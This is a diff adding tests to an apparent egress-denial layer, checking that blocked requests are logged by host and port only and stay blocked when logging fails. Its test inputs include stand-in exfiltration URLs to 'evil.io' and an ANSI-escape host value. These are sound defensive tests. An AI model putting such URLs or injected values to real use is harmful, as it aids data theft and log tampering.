@@ -378,3 +378,42 @@ async def test_the_systems_resolver_serves_by_default(authority: Authority) -> N
         async with egress.open(request, grant, Meter(Budget()), world.journal, deadline) as response:
             assert b"".join([piece async for piece in response]) == b"ok"
         await egress.aclose()
+
+
+@pytest.mark.parametrize(
+    ("url", "destination"),
+    [
+        ("https://evil.io/steal?data=sesame", "evil.io:443"),
+        ("https://user:sesame@evil.io:8443/", "evil.io:8443"),
+        ("gopher://evil.io:70/sesame", "evil.io:70"),
+        ("https://evil.io\\\\sesame", "evil.io"),
+        ("https://\x1b[2Jevil.io/", "\x1b[2Jevil.io"),
+        ("https://" + "e" * 999 + "/sesame", "e" * 300),
+        ("sesame", "unknown"),
+    ],
+)
+async def test_a_denial_on_record_says_where_to_and_no_more(world: World, url: str, destination: str) -> None:
+    """Host and port as far as the URL has any; no path, query or user of it."""
+    with pytest.raises(AileronError) as caught:
+        await world.ask(None, url=url, method="GET" + "T" * 99, grant=Grant())
+
+    (denial,) = world.journal.denials
+    assert (denial.number, denial.destination, denial.reason) == (1, destination, reason_of(caught.value))
+    assert denial.method == "GET" + "T" * 29
+    assert "sesame" not in repr(denial)
+
+
+async def test_a_denial_that_cannot_be_recorded_is_still_none_that_leaves(
+    world: World, tls_upstream: MakeUpstream, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A full disk: the invocation hears of that, and the request stays where it is."""
+
+    async def full(_denial: object) -> None:
+        raise AileronError(FailureClass.INTERNAL_ERROR, "the disk is full")
+
+    monkeypatch.setattr(world.journal, "denied", full)
+    with tls_upstream(lambda _seen: answer(b"ok")) as upstream:
+        with pytest.raises(AileronError, match="the disk is full"):
+            await world.ask(upstream, url="https://evil.io/")
+        assert_nothing_happened(world, upstream)
+        assert (await world.ask(upstream)).status == 200
